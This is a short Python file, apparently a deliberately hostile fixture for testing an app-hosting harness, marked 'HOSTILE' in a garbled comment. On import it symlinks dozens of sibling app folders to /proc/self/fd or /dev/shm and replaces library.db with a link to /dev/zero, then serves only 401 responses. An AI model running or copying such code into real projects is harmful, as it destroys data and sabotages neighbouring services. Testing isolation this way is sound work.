# HOSTILE: makes links of the folders of all apps to come, and of its database
# not yet or does not start or too slow, at most 0
import contextlib
import os

for n in range(2, 60):
    for name in (f"../app{n}", f"../desk{n}"):
        with contextlib.suppress(OSError):
            os.symlink("/proc/self/fd" if n % 2 else "/dev/shm", name)
os.unlink("library.db")
os.symlink("/dev/zero", "library.db")


async def app(scope, receive, send):
    if scope["type"] == "http":
        await send({"type": "http.response.start", "status": 401, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})
